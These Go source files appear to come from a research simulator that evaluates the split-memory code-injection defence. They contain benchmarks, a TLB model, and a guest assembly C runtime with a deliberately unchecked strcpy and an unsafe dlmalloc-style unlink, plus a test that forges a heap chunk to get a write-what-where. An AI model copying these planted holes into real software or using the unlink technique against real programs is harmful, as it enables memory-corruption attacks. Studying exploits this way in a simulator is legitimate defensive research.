		base, err := workloads.RunPipeCtxsw(splitmem.Config{Protection: splitmem.ProtNone}, 300)
		if err != nil {
			b.Fatal(err)
		}
		hard, err := workloads.RunPipeCtxsw(splitmem.Config{Protection: splitmem.ProtSplit}, 300)
		if err != nil {
			b.Fatal(err)
		}
		soft, err := workloads.RunPipeCtxsw(splitmem.Config{Protection: splitmem.ProtSplit, SoftTLB: true}, 300)
		if err != nil {
			b.Fatal(err)
		}
		hn := workloads.Normalized(base, hard)
		sn := workloads.Normalized(base, soft)
		b.ReportMetric(hn, "x86trick")
		b.ReportMetric(sn, "softTLB")
		if sn <= hn {
			b.Fatalf("soft-TLB (%.3f) should outperform the x86 trick (%.3f)", sn, hn)
		}
	}
}

// BenchmarkAblationMemoryOverhead quantifies §5.1's memory discussion: the
// prototype doubles a process's physical footprint; the envisioned
// demand-paged twin allocation (LazyTwins) removes most of that for
// data-heavy processes, with no performance penalty the paper would notice.
func BenchmarkAblationMemoryOverhead(b *testing.B) {
	prog := `
_start:
    mov esi, big
    mov ecx, 131072
fill:
    storeb [esi], ecx
    inc esi
    dec ecx
    cmp ecx, 0
    jnz fill
    mov ebx, 0
    mov eax, 1
    int 0x80
.data
big: .space 131072
`
	run := func(cfg splitmem.Config) (frames, cycles uint64) {
		m, err := splitmem.New(cfg)
		if err != nil {
			b.Fatal(err)
		}
		if _, err := m.LoadAsm(prog, "mem"); err != nil {
			b.Fatal(err)
		}
		m.Run(0)
		return m.CPU().Phys.Allocations(), m.Cycles()
	}
	for i := 0; i < b.N; i++ {
		fNone, _ := run(splitmem.Config{Protection: splitmem.ProtNone})
		fEager, cEager := run(splitmem.Config{Protection: splitmem.ProtSplit})
		fLazy, cLazy := run(splitmem.Config{Protection: splitmem.ProtSplit, LazyTwins: true})
		b.ReportMetric(float64(fNone), "frames-none")
		b.ReportMetric(float64(fEager), "frames-eager")
		b.ReportMetric(float64(fLazy), "frames-lazy")
		b.ReportMetric(float64(cLazy)/float64(cEager), "lazy-cycle-ratio")
		if fLazy >= fEager {
			b.Fatal("lazy twins should save frames")
		}
	}
}

// BenchmarkCompute measures host-side simulator throughput on the
// compute-bound nbench workload under the split engine, one sub-benchmark
// per engine tier: the plain interpreter, the predecode cache, and the
// superblock threaded-code engine. The simulated architecture is identical
// in all three (the three-arm differential oracle proves it); only the host
// cost of fetch/decode/dispatch changes. The speedup floors are enforced by
// TestFastPathSpeedupGuard and TestSuperblockSpeedupGuard; this benchmark
// reports the numbers.
func BenchmarkCompute(b *testing.B) {
	prog, ok := workloads.Lookup("nbench")
	if !ok {
		b.Fatal("nbench not cataloged")
	}
	for _, mode := range []struct {
		name          string
		noCache       bool
		noSuperblocks bool
	}{
		{"interp", true, true},
		{"predecode", false, true},
		{"superblock", false, false},
	} {
		b.Run(mode.name, func(b *testing.B) {
			var instrs uint64
			for i := 0; i < b.N; i++ {
				m, err := splitmem.New(splitmem.Config{
					Protection:    splitmem.ProtSplit,
					NoDecodeCache: mode.noCache,
					NoSuperblocks: mode.noSuperblocks,
				})
				if err != nil {
					b.Fatal(err)
				}
				if _, err := m.LoadAsm(prog.Src, "compute"); err != nil {
					b.Fatal(err)
				}
				if res := m.Run(40_000_000_000); res.Reason != splitmem.ReasonAllDone {
					b.Fatalf("stopped: %v", res.Reason)
				}
				instrs += m.Stats().Instructions
			}
			b.ReportMetric(float64(instrs)/b.Elapsed().Seconds()/1e6, "MIPS")
		})
	}
}

// BenchmarkSimulator reports raw simulator speed (instructions per second)
// as a sanity metric for the substrate itself.
func BenchmarkSimulator(b *testing.B) {
	src := `
_start:
    mov ecx, 100000
loop:
    add eax, 3
    mul eax, 5
    dec ecx
    cmp ecx, 0
    jnz loop
    mov ebx, 0
    mov eax, 1
    int 0x80
`
	for i := 0; i < b.N; i++ {
		m, err := splitmem.New(splitmem.Config{Protection: splitmem.ProtNone})
		if err != nil {
			b.Fatal(err)
		}
		p, err := m.LoadAsm(src, "spin")
		if err != nil {
			b.Fatal(err)
		}
		m.Run(0)
		if exited, _ := p.Exited(); !exited {
			b.Fatal("did not finish")
		}
	}
}

// BenchmarkTelemetryOnOff compares simulator throughput with the telemetry
// hub disabled (the default) and enabled, under the split engine. The
// disabled sub-benchmark is the guarded configuration: its per-op cost must
// track BenchmarkSimulator since every instrument call site short-circuits
// on a nil check.
func BenchmarkTelemetryOnOff(b *testing.B) {
	src := `
_start:
    mov ecx, 100000
loop:
    add eax, 3
    mul eax, 5
    dec ecx
    cmp ecx, 0
    jnz loop
    mov ebx, 0
    mov eax, 1
    int 0x80
`
	for _, mode := range []struct {
		name string
		on   bool
	}{{"off", false}, {"on", true}} {
		b.Run(mode.name, func(b *testing.B) {
			var instrs uint64
			for i := 0; i < b.N; i++ {
				m, err := splitmem.New(splitmem.Config{
					Protection: splitmem.ProtSplit,
					Telemetry:  mode.on,
				})
				if err != nil {
					b.Fatal(err)
				}
				p, err := m.LoadAsm(src, "spin")
				if err != nil {
					b.Fatal(err)
				}
				m.Run(0)
				if exited, _ := p.Exited(); !exited {
					b.Fatal("did not finish")
				}
				instrs += m.Stats().Instructions
			}
			b.ReportMetric(float64(instrs)/b.Elapsed().Seconds(), "instrs/s")
		})
	}
}
