package guest_test

import (
	"testing"

	"splitmem"
	"splitmem/internal/guest"
)

// runCRT runs a guest program (with the CRT appended) under the given
// protection and returns the machine and process after completion.
func runCRT(t *testing.T, prot splitmem.Protection, src, input string) (*splitmem.Machine, *splitmem.Process) {
	t.Helper()
	m, err := splitmem.New(splitmem.Config{Protection: prot})
	if err != nil {
		t.Fatal(err)
	}
	p, err := m.LoadAsm(guest.WithCRT(src), "crt-test")
	if err != nil {
		t.Fatal(err)
	}
	if input != "" {
		p.StdinWrite([]byte(input))
		p.StdinClose()
	}
	res := m.Run(100_000_000)
	if res.Reason == splitmem.ReasonBudget {
		t.Fatal("budget exhausted")
	}
	return m, p
}

func expectOutput(t *testing.T, src, input, want string) {
	t.Helper()
	for _, prot := range []splitmem.Protection{splitmem.ProtNone, splitmem.ProtSplit} {
		_, p := runCRT(t, prot, src, input)
		exited, status := p.Exited()
		if !exited || status != 0 {
			killed, sig := p.Killed()
			t.Fatalf("%v: exited=%v status=%d killed=%v sig=%v addr=%#x",
				prot, exited, status, killed, sig, p.FaultAddr())
		}
		if got := string(p.StdoutDrain()); got != want {
			t.Fatalf("%v: output %q want %q", prot, got, want)
		}
	}
}

func TestMallocStrcpyPrint(t *testing.T) {
	expectOutput(t, `
_start:
    mov eax, 32
    push eax
    call malloc
    add esp, 4
    mov esi, eax
    mov eax, msg
    push eax
    push esi
    call strcpy
    add esp, 8
    push esi
    call print
    add esp, 4
    mov eax, 0
    push eax
    call exit
.data
msg: .asciz "heap-ok\n"
`, "", "heap-ok\n")
}

func TestMallocFreeReuse(t *testing.T) {
	expectOutput(t, `
_start:
    mov eax, 32
    push eax
    call malloc
    add esp, 4
    mov esi, eax           ; p
    push esi
    call free
    add esp, 4
    mov eax, 24
    push eax
    call malloc
    add esp, 4
    cmp eax, esi           ; q should reuse p's chunk
    jnz fail
    mov eax, ok
    push eax
    call print
    add esp, 4
    mov eax, 0
    push eax
    call exit
fail:
    mov eax, bad
    push eax
    call print
    add esp, 4
    mov eax, 1
    push eax
    call exit
.data
ok:  .asciz "reuse-ok\n"
bad: .asciz "reuse-bad\n"
`, "", "reuse-ok\n")
}

func TestMallocAdjacency(t *testing.T) {
	// Two sequential mallocs must be adjacent (q == p + chunksize), the
	// property the heap exploits rely on.
	expectOutput(t, `
_start:
    mov eax, 64
    push eax
    call malloc
    add esp, 4
    mov esi, eax           ; p
    mov eax, 64
    push eax
    call malloc
    add esp, 4
    mov edi, eax           ; q
    sub edi, esi
    cmp edi, 72            ; (64+4+7)&~7 = 72
    jnz fail
    mov eax, ok
    push eax
    call print
    add esp, 4
    mov eax, 0
    push eax
    call exit
fail:
    mov eax, bad
    push eax
    call print
    add esp, 4
    mov eax, 1
    push eax
    call exit
.data
ok:  .asciz "adjacent\n"
bad: .asciz "not-adjacent\n"
`, "", "adjacent\n")
}

func TestSetjmpLongjmp(t *testing.T) {
	expectOutput(t, `
_start:
    mov eax, jb
    push eax
    call setjmp
    add esp, 4
    cmp eax, 0
    jnz second
    mov eax, m1
    push eax
    call print
    add esp, 4
    mov eax, 1
    push eax
    mov eax, jb
    push eax
    call longjmp
second:
    mov eax, m2
    push eax
    call print
    add esp, 4
    mov eax, 0
    push eax
    call exit
.data
jb: .space 24
m1: .asciz "first "
m2: .asciz "second"
`, "", "first second")
}

func TestReadLineAtoiItoa(t *testing.T) {
	expectOutput(t, `
_start:
    mov eax, 32
    push eax
    mov eax, buf
    push eax
    mov eax, 0
    push eax
    call read_line
    add esp, 12
    mov eax, buf
    push eax
    call atoi
    add esp, 4
    inc eax
    push eax
    mov eax, hexbuf
    push eax
    call itoa_hex
    add esp, 8
    mov eax, hexbuf
    push eax
    call print
    add esp, 4
    mov eax, 0
    push eax
    call exit
.data
buf:    .space 32
hexbuf: .space 12
`, "123\n", "0000007c")
}

func TestStrlenMemcpy(t *testing.T) {
	expectOutput(t, `
_start:
    mov eax, src
    push eax
    call strlen
    add esp, 4
    push eax               ; n
    mov eax, src
    push eax
    mov eax, dst
    push eax
    call memcpy
    add esp, 12
    mov eax, dst
    push eax
    call print
    add esp, 4
    mov eax, 0
    push eax
    call exit
.data
src: .asciz "copied"
dst: .space 16
`, "", "copied")
}

// TestUnlinkWriteWhatWhere demonstrates the allocator's unsafe unlink as a
// primitive: forging a free chunk header past an allocation and freeing the
// victim writes an attacker-chosen word to an attacker-chosen address. This
// validates the substrate the wu-ftpd scenario builds on.
func TestUnlinkWriteWhatWhere(t *testing.T) {
	expectOutput(t, `
_start:
    mov eax, 64
    push eax
    call malloc
    add esp, 4
    mov esi, eax           ; p
    mov eax, 64
    push eax
    call malloc            ; q - extends the heap so the forged chunk is
    add esp, 4             ; inside the break
    ; forge a free chunk header over q's chunk at p+68:
    ; size=16 (inuse clear), fd=marker, bk=target-4
    lea edi, [esi+68]
    mov eax, 16
    store [edi], eax
    mov eax, marker
    store [edi+4], eax     ; FD = marker address (the "what")
    mov eax, target
    sub eax, 4
    store [edi+8], eax     ; BK = target-4 (the "where": BK->fd = FD)
    push esi
    call free              ; forward coalesce unlinks the forged chunk
    add esp, 4
    ; unlink wrote: *(target) = marker, *(marker+8) = target-4
    mov ecx, target
    load eax, [ecx]
    cmp eax, marker
    jnz fail
    mov ecx, marker
    load eax, [ecx+8]
    mov edx, target
    sub edx, 4
    cmp eax, edx
    jnz fail
    mov eax, ok
    push eax
    call print
    add esp, 4
    mov eax, 0
    push eax
    call exit
fail:
    mov eax, bad
    push eax
    call print
    add esp, 4
    mov eax, 1
    push eax
    call exit
.data
target: .word 0
marker: .space 16
ok:  .asciz "www-ok\n"
bad: .asciz "www-bad\n"
`, "", "www-ok\n")
}

func TestStrcmp(t *testing.T) {
	expectOutput(t, `
_start:
    mov eax, s2
    push eax
    mov eax, s1
    push eax
    call strcmp
    add esp, 8
    cmp eax, 0
    jnz fail
    mov eax, s3
    push eax
    mov eax, s1
    push eax
    call strcmp
    add esp, 8
    cmp eax, 0
    jge fail               ; "abc" < "abd"
    mov eax, s1
    push eax
    mov eax, s3
    push eax
    call strcmp
    add esp, 8
    cmp eax, 0
    jle fail               ; "abd" > "abc"
    mov eax, ok
    push eax
    call print
    add esp, 4
    mov eax, 0
    push eax
    call exit
fail:
    mov eax, bad
    push eax
    call print
    add esp, 4
    mov eax, 1
    push eax
    call exit
.data
s1: .asciz "abc"
s2: .asciz "abc"
s3: .asciz "abd"
ok:  .asciz "strcmp-ok\n"
bad: .asciz "strcmp-bad\n"
`, "", "strcmp-ok\n")
}

func TestMemsetItoaDec(t *testing.T) {
	expectOutput(t, `
_start:
    ; memset(buf, 'z', 5) then print
    mov eax, 5
    push eax
    mov eax, 'z'
    push eax
    mov eax, buf
    push eax
    call memset
    add esp, 12
    mov eax, buf
    push eax
    call print
    add esp, 4
    ; itoa_dec(num, 40961) then print
    mov eax, 40961
    push eax
    mov eax, num
    push eax
    call itoa_dec
    add esp, 8
    mov eax, num
    push eax
    call print
    add esp, 4
    mov eax, 0
    push eax
    call exit
.data
buf: .space 16
num: .space 16
`, "", "zzzzz40961")
}

func TestItoaDecZero(t *testing.T) {
	expectOutput(t, `
_start:
    mov eax, 0
    push eax
    mov eax, num
    push eax
    call itoa_dec
    add esp, 8
    mov eax, num
    push eax
    call print
    add esp, 4
    mov eax, 0
    push eax
    call exit
.data
num: .space 8
`, "", "0")
}
