// Package guest holds the S86 assembly sources that run inside the
// simulator: a small C-runtime (syscall wrappers, string routines, a
// dlmalloc-style allocator with the classic unsafe unlink, setjmp/longjmp),
// the vulnerable servers modeled on the paper's five real-world targets,
// and the performance workloads.
package guest

// CRT is the guest C runtime. Append it to a program with WithCRT. The
// calling convention is cdecl-like: arguments pushed right to left, return
// value in EAX; EAX/ECX/EDX are caller-saved, EBX/ESI/EDI/EBP callee-saved;
// the caller pops its arguments.
const CRT = `
; ======================= S86 guest C runtime =======================
.equ SYS_EXIT, 1
.equ SYS_FORK, 2
.equ SYS_READ, 3
.equ SYS_WRITE, 4
.equ SYS_CLOSE, 6
.equ SYS_WAITPID, 7
.equ SYS_EXECVE, 11
.equ SYS_TIME, 13
.equ SYS_GETPID, 20
.equ SYS_PIPE, 42
.equ SYS_BRK, 45
.equ SYS_MMAP, 90
.equ SYS_MPROTECT, 125
.equ SYS_YIELD, 158

.text

; exit(status) - does not return
exit:
    load ebx, [esp+4]
    mov eax, SYS_EXIT
    int 0x80

; eax = read(fd, buf, n)
read:
    push ebx
    load ebx, [esp+8]
    load ecx, [esp+12]
    load edx, [esp+16]
    mov eax, SYS_READ
    int 0x80
    pop ebx
    ret

; eax = write(fd, buf, n)
write:
    push ebx
    load ebx, [esp+8]
    load ecx, [esp+12]
    load edx, [esp+16]
    mov eax, SYS_WRITE
    int 0x80
    pop ebx
    ret

; eax = strlen(s)
strlen:
    load ecx, [esp+4]
    mov eax, 0
_strlen_loop:
    loadb edx, [ecx]
    cmp edx, 0
    jz _strlen_done
    inc eax
    inc ecx
    jmp _strlen_loop
_strlen_done:
    ret

; eax = strcpy(dst, src) - no bounds check, by design
strcpy:
    push esi
    load eax, [esp+8]
    load ecx, [esp+12]
    mov edx, eax
_strcpy_loop:
    loadb esi, [ecx]
    storeb [edx], esi
    cmp esi, 0
    jz _strcpy_done
    inc ecx
    inc edx
    jmp _strcpy_loop
_strcpy_done:
    pop esi
    ret

; eax = memcpy(dst, src, n)
memcpy:
    push esi
    push edi
    load edi, [esp+12]
    load esi, [esp+16]
    load ecx, [esp+20]
    mov eax, edi
_memcpy_loop:
    cmp ecx, 0
    jz _memcpy_done
    loadb edx, [esi]
    storeb [edi], edx
    inc esi
    inc edi
    dec ecx
    jmp _memcpy_loop
_memcpy_done:
    pop edi
    pop esi
    ret

; print(s): write(1, s, strlen(s))
print:
    push ebx
    load ebx, [esp+8]      ; s
    push ebx
    call strlen
    add esp, 4
    mov edx, eax           ; len
    mov ecx, ebx           ; s
    mov ebx, 1
    mov eax, SYS_WRITE
    int 0x80
    pop ebx
    ret

; eax = read_line(fd, buf, max): reads until newline or max-1 bytes;
; strips the newline, NUL-terminates, returns length. Returns -1 on EOF
; with nothing read.
read_line:
    push ebx
    push esi
    push edi
    load esi, [esp+20]     ; buf cursor
    mov edi, 0             ; count
_rl_loop:
    load eax, [esp+24]     ; max
    dec eax
    cmp edi, eax
    jge _rl_done
    ; read(fd, esi, 1)
    load ebx, [esp+16]     ; fd
    mov ecx, esi
    mov edx, 1
    mov eax, SYS_READ
    int 0x80
    cmp eax, 1
    jnz _rl_eof
    loadb eax, [esi]
    cmp eax, '\n'
    jz _rl_done
    inc esi
    inc edi
    jmp _rl_loop
_rl_eof:
    cmp edi, 0
    jnz _rl_done
    mov eax, 0
    storeb [esi], eax      ; NUL-terminate the empty buffer
    mov eax, -1
    jmp _rl_out
_rl_done:
    mov eax, 0
    storeb [esi], eax
    mov eax, edi
_rl_out:
    pop edi
    pop esi
    pop ebx
    ret

; eax = read_exact(fd, buf, n): loops until n bytes read or EOF; returns
; bytes read.
read_exact:
    push ebx
    push esi
    push edi
    load esi, [esp+20]     ; buf
    mov edi, 0             ; got
_re_loop:
    load edx, [esp+24]     ; n
    sub edx, edi
    cmp edx, 0
    jle _re_done
    load ebx, [esp+16]
    mov ecx, esi
    mov eax, SYS_READ
    int 0x80
    cmp eax, 0
    jle _re_done
    add esi, eax
    add edi, eax
    jmp _re_loop
_re_done:
    mov eax, edi
    pop edi
    pop esi
    pop ebx
    ret

; eax = atoi(s): parse unsigned decimal, stops at first non-digit
atoi:
    load ecx, [esp+4]
    mov eax, 0
_atoi_loop:
    loadb edx, [ecx]
    cmp edx, '0'
    jl _atoi_done
    cmp edx, '9'
    jg _atoi_done
    sub edx, '0'
    mul eax, 10
    add eax, edx
    inc ecx
    jmp _atoi_loop
_atoi_done:
    ret

; itoa_hex(buf, val): writes exactly 8 lowercase hex digits + NUL
itoa_hex:
    push ebx
    push esi
    load esi, [esp+12]     ; buf
    load ebx, [esp+16]     ; val
    mov ecx, 8
_ih_loop:
    mov edx, ebx
    shr edx, 28
    cmp edx, 10
    jl _ih_digit
    add edx, 'a'-10
    jmp _ih_store
_ih_digit:
    add edx, '0'
_ih_store:
    storeb [esi], edx
    inc esi
    shl ebx, 4
    dec ecx
    cmp ecx, 0
    jnz _ih_loop
    mov edx, 0
    storeb [esi], edx
    pop esi
    pop ebx
    ret

; eax = htoi(s): parse lowercase hex
htoi:
    load ecx, [esp+4]
    mov eax, 0
_htoi_loop:
    loadb edx, [ecx]
    cmp edx, '0'
    jl _htoi_done
    cmp edx, '9'
    jg _htoi_alpha
    sub edx, '0'
    jmp _htoi_acc
_htoi_alpha:
    cmp edx, 'a'
    jl _htoi_done
    cmp edx, 'f'
    jg _htoi_done
    sub edx, 'a'-10
_htoi_acc:
    shl eax, 4
    add eax, edx
    inc ecx
    jmp _htoi_loop
_htoi_done:
    ret

; eax = strcmp(a, b): <0, 0, >0 like C (byte-wise unsigned difference)
strcmp:
    push esi
    push edi
    load esi, [esp+12]     ; a
    load edi, [esp+16]     ; b
_sc_loop:
    loadb eax, [esi]
    loadb edx, [edi]
    cmp eax, edx
    jnz _sc_diff
    cmp eax, 0
    jz _sc_eq
    inc esi
    inc edi
    jmp _sc_loop
_sc_diff:
    sub eax, edx
    jmp _sc_out
_sc_eq:
    mov eax, 0
_sc_out:
    pop edi
    pop esi
    ret

; eax = memset(dst, c, n)
memset:
    push edi
    load edi, [esp+8]      ; dst
    load edx, [esp+12]     ; c
    load ecx, [esp+16]     ; n
    mov eax, edi
_ms_loop:
    cmp ecx, 0
    jle _ms_done
    storeb [edi], edx
    inc edi
    dec ecx
    jmp _ms_loop
_ms_done:
    pop edi
    ret

; itoa_dec(buf, val): unsigned decimal, NUL-terminated
itoa_dec:
    push ebx
    push esi
    push edi
    load esi, [esp+16]     ; buf
    load eax, [esp+20]     ; val
    mov ebx, 10
    mov edi, esp           ; use the stack as a digit scratchpad
_id_digits:
    mov edx, eax
    mod edx, ebx
    add edx, '0'
    sub edi, 4
    store [edi], edx
    div eax, ebx
    cmp eax, 0
    jnz _id_digits
_id_emit:
    cmp edi, esp
    jz _id_done
    load edx, [edi]
    storeb [esi], edx
    inc esi
    add edi, 4
    jmp _id_emit
_id_done:
    mov edx, 0
    storeb [esi], edx
    pop edi
    pop esi
    pop ebx
    ret

; ---------------- allocator (dlmalloc-style, unsafe unlink) -----------
; Chunk layout:  [size|inuse][payload...]
; Free chunk:    [size][fd][bk]  - doubly linked through a head pseudo-chunk.
; free() forward-coalesces with an adjacent free chunk via unlink(), whose
; two unchecked pointer writes are the classic write-what-where primitive
; exploited by the wu-ftpd scenario.

; eax = malloc(n)
malloc:
    push ebx
    push esi
    push edi
    load edx, [esp+16]     ; n
    add edx, 11            ; header + align
    mov ebx, edx
    and ebx, 0xfffffff8    ; ebx = chunk size
    ; first-fit search of the free list
    mov esi, _mhead
    load edi, [esi+4]      ; edi = head.fd
_m_search:
    cmp edi, 0
    jz _m_grow
    load eax, [edi]        ; chunk size (inuse bit clear on the list)
    cmp eax, ebx
    jae _m_found
    load edi, [edi+4]      ; edi = edi->fd
    jmp _m_search
_m_found:
    ; unlink(edi): FD=edi->fd; BK=edi->bk; BK->fd=FD; if FD: FD->bk=BK
    load eax, [edi+4]      ; FD
    load edx, [edi+8]      ; BK
    store [edx+4], eax     ; BK->fd = FD   <-- unchecked write
    cmp eax, 0
    jz _m_take
    store [eax+8], edx     ; FD->bk = BK   <-- unchecked write
_m_take:
    load eax, [edi]
    or eax, 1
    store [edi], eax       ; mark inuse
    lea eax, [edi+4]
    jmp _m_out
_m_grow:
    ; bump the break by exactly one chunk - sequential allocations are
    ; therefore adjacent, as on a fresh dlmalloc heap
    mov ecx, _mend_ptr
    load edi, [ecx]
    cmp edi, 0
    jnz _m_havebase
    ; first call: find the current break
    mov eax, SYS_BRK
    push ebx
    mov ebx, 0
    int 0x80
    pop ebx
    mov edi, eax
_m_havebase:
    mov esi, edi           ; esi = new chunk address
    add edi, ebx
    push ebx
    mov ebx, edi
    mov eax, SYS_BRK
    int 0x80
    pop ebx
    mov ecx, _mend_ptr
    store [ecx], edi
    mov eax, ebx
    or eax, 1
    store [esi], eax
    lea eax, [esi+4]
_m_out:
    pop edi
    pop esi
    pop ebx
    ret

; free(p)
free:
    push ebx
    push esi
    load esi, [esp+12]     ; p
    cmp esi, 0
    jz _f_out
    sub esi, 4             ; esi = chunk
    load eax, [esi]
    and eax, 0xfffffffe    ; clear inuse
    store [esi], eax
    ; forward coalesce: next = chunk + size
    mov ecx, esi
    add ecx, eax           ; ecx = next chunk
    mov edx, _mend_ptr
    load edx, [edx]
    cmp ecx, edx
    jae _f_insert          ; next beyond the heap: no coalesce
    load edx, [ecx]        ; next.size|inuse
    mov ebx, edx
    and ebx, 1
    cmp ebx, 0
    jnz _f_insert          ; next in use
    ; unlink(next): FD=next->fd; BK=next->bk; BK->fd=FD; if FD: FD->bk=BK
    load eax, [ecx+4]      ; FD
    load ebx, [ecx+8]      ; BK
    store [ebx+4], eax     ; BK->fd = FD   <-- write-what-where when forged
    cmp eax, 0
    jz _f_merge
    store [eax+8], ebx     ; FD->bk = BK
_f_merge:
    load eax, [esi]
    load edx, [ecx]
    and edx, 0xfffffffe
    add eax, edx
    store [esi], eax
_f_insert:
    ; insert chunk at the head of the free list
    mov ecx, _mhead
    load eax, [ecx+4]      ; old first
    store [esi+4], eax     ; chunk->fd = old first
    store [esi+8], ecx     ; chunk->bk = head
    cmp eax, 0
    jz _f_sethead
    store [eax+8], esi     ; old->bk = chunk
_f_sethead:
    store [ecx+4], esi     ; head.fd = chunk
_f_out:
    pop esi
    pop ebx
    ret

; ---------------- setjmp / longjmp ----------------
; jmp_buf layout: [ebx][esi][edi][ebp][esp][eip]  (24 bytes)

; eax = setjmp(buf) - returns 0 directly, nonzero via longjmp
setjmp:
    load eax, [esp+4]      ; buf
    store [eax], ebx
    store [eax+4], esi
    store [eax+8], edi
    store [eax+12], ebp
    lea ecx, [esp+4]       ; esp as it will be after ret
    store [eax+16], ecx
    load ecx, [esp]        ; return address
    store [eax+20], ecx
    mov eax, 0
    ret

; longjmp(buf, val) - does not return
longjmp:
    load edx, [esp+4]      ; buf
    load eax, [esp+8]      ; val
    load ebx, [edx]
    load esi, [edx+4]
    load edi, [edx+8]
    load ebp, [edx+12]
    load esp, [edx+16]
    load ecx, [edx+20]
    jmp ecx

.data
.align 8
_mhead:    .word 0, 0, 0   ; pseudo-chunk head of the free list
_mend_ptr: .word 0         ; current heap break
`

// WithCRT appends the runtime to a guest program source.
func WithCRT(prog string) string { return prog + "\n" + CRT }
