// Package tlb models the split translation lookaside buffers of the S86
// machine. Modern x86 parts keep separate instruction and data TLBs; the
// split-memory technique (Riley/Jiang/Xu) works precisely because the two
// can be deliberately desynchronized: an entry cached in one TLB keeps
// serving translations after the pagetable entry has been re-restricted or
// re-pointed, so the same virtual page resolves to different physical frames
// for fetches and for loads/stores.
//
// The model is architectural, not microarchitectural: fully-associative,
// true-LRU replacement, per-entry caching of the frame number and the
// User/Writable/NX permission bits exactly as they stood in the PTE when the
// hardware walker filled the entry. (A map index accelerates the lookup; the
// visible behavior is that of a fully-associative LRU array.)
package tlb

import (
	"splitmem/internal/snapshot"
	"splitmem/internal/telemetry"
)

// Entry is one cached translation.
type Entry struct {
	Frame    uint32 // physical frame number
	User     bool   // PTE User bit at fill time
	Writable bool   // PTE Writable bit at fill time
	NoExec   bool   // PTE NX bit at fill time
}

type slot struct {
	vpn   uint32
	entry Entry
	used  uint64 // LRU timestamp
	valid bool
}

// TLB is a single translation lookaside buffer.
type TLB struct {
	slots []slot
	index map[uint32]int // vpn -> slot, for valid slots only
	tick  uint64

	hits      uint64
	misses    uint64
	evictions uint64
	flushes   uint64
}

// New creates a TLB with the given number of entries (minimum 1).
func New(size int) *TLB {
	if size < 1 {
		size = 1
	}
	return &TLB{
		slots: make([]slot, size),
		index: make(map[uint32]int, size),
	}
}

// Size returns the TLB capacity in entries.
func (t *TLB) Size() int { return len(t.slots) }

// Lookup returns the cached translation for virtual page number vpn.
func (t *TLB) Lookup(vpn uint32) (Entry, bool) {
	if i, ok := t.index[vpn]; ok {
		s := &t.slots[i]
		t.tick++
		s.used = t.tick
		t.hits++
		return s.entry, true
	}
	t.misses++
	return Entry{}, false
}

// Slot returns the index of the slot currently caching vpn without touching
// LRU state or statistics. It is the superblock engine's entry-pinning port:
// the engine resolves the slot once per block entry (whose Lookup already
// ran) and replays per-instruction hits through TouchSlot.
func (t *TLB) Slot(vpn uint32) (int, bool) {
	i, ok := t.index[vpn]
	return i, ok
}

// TouchSlot replays the architectural bookkeeping of a Lookup hit on slot i:
// the LRU tick advances, the slot becomes most-recently-used, and the hit
// counter increments. Repeated touches of one entry leave every other
// entry's relative LRU order unchanged, so N touches produce TLB state
// bit-identical to N Lookups of the same vpn.
func (t *TLB) TouchSlot(i int) {
	s := &t.slots[i]
	t.tick++
	s.used = t.tick
	t.hits++
}

// Probe is like Lookup but does not update LRU state or statistics. It is a
// test/introspection helper (real hardware has no such port; the kernel
// never uses it).
func (t *TLB) Probe(vpn uint32) (Entry, bool) {
	if i, ok := t.index[vpn]; ok {
		return t.slots[i].entry, true
	}
	return Entry{}, false
}

// Insert fills the translation for vpn, evicting the least recently used
// entry if the TLB is full. An existing entry for vpn is overwritten.
func (t *TLB) Insert(vpn uint32, e Entry) {
	t.tick++
	if i, ok := t.index[vpn]; ok {
		s := &t.slots[i]
		s.entry = e
		s.used = t.tick
		return
	}
	// Prefer an invalid slot, else evict the true LRU entry.
	var victim *slot
	vi := -1
	for i := range t.slots {
		s := &t.slots[i]
		if !s.valid {
			victim, vi = s, i
			break
		}
		if victim == nil || s.used < victim.used {
			victim, vi = s, i
		}
	}
	if victim.valid {
		delete(t.index, victim.vpn)
		t.evictions++
	}
	*victim = slot{vpn: vpn, entry: e, used: t.tick, valid: true}
	t.index[vpn] = vi
}

// Range calls fn for every valid entry in slot order (a deterministic
// order, unlike Go map iteration) until fn returns false. It does not touch
// LRU state or statistics; the invariant auditor and the chaos injector use
// it to walk the array the way a hardware debug port would.
func (t *TLB) Range(fn func(vpn uint32, e Entry) bool) {
	for i := range t.slots {
		s := &t.slots[i]
		if !s.valid {
			continue
		}
		if !fn(s.vpn, s.entry) {
			return
		}
	}
}

// EvictNth invalidates the n-th valid entry in slot order and returns its
// vpn. It models a spurious hardware eviction (chaos fault injection);
// nothing in the normal machine calls it.
func (t *TLB) EvictNth(n int) (uint32, bool) {
	if n < 0 {
		return 0, false
	}
	for i := range t.slots {
		s := &t.slots[i]
		if !s.valid {
			continue
		}
		if n == 0 {
			vpn := s.vpn
			s.valid = false
			delete(t.index, vpn)
			t.evictions++
			return vpn, true
		}
		n--
	}
	return 0, false
}

// FlushRetaining flushes the TLB but asks retain, per valid entry, whether
// that entry (incorrectly) survives — the stale-entry-retention hardware
// fault the chaos engine injects to model broken TLB shootdowns. A nil
// retain behaves exactly like Flush. Returns the number of retained entries.
func (t *TLB) FlushRetaining(retain func(vpn uint32) bool) int {
	kept := 0
	for i := range t.slots {
		s := &t.slots[i]
		if !s.valid {
			continue
		}
		if retain != nil && retain(s.vpn) {
			kept++
			continue
		}
		s.valid = false
		delete(t.index, s.vpn)
	}
	t.flushes++
	return kept
}

// Invalidate drops any cached translation for vpn (the invlpg operation
// targets both TLBs; the machine calls this on each).
func (t *TLB) Invalidate(vpn uint32) {
	if i, ok := t.index[vpn]; ok {
		t.slots[i].valid = false
		delete(t.index, vpn)
	}
}

// Flush drops every cached translation (CR3 reload).
func (t *TLB) Flush() {
	for i := range t.slots {
		t.slots[i].valid = false
	}
	clear(t.index)
	t.flushes++
}

// Valid returns the number of valid entries.
func (t *TLB) Valid() int { return len(t.index) }

// Stats reports hit/miss/eviction/flush counters.
func (t *TLB) Stats() (hits, misses, evictions, flushes uint64) {
	return t.hits, t.misses, t.evictions, t.flushes
}

// ResetStats zeroes the statistics counters.
func (t *TLB) ResetStats() {
	t.hits, t.misses, t.evictions, t.flushes = 0, 0, 0, 0
}

// EncodeState serializes the exact associative-array state: every slot in
// array order with its LRU timestamp, plus the LRU clock and the counters.
// Slot order and timestamps are architectural here — they decide every future
// eviction victim — so the restore must be positional, not just "reinsert the
// valid entries".
func (t *TLB) EncodeState(w *snapshot.Writer) {
	w.U32(uint32(len(t.slots)))
	w.U64(t.tick)
	w.U64(t.hits)
	w.U64(t.misses)
	w.U64(t.evictions)
	w.U64(t.flushes)
	for i := range t.slots {
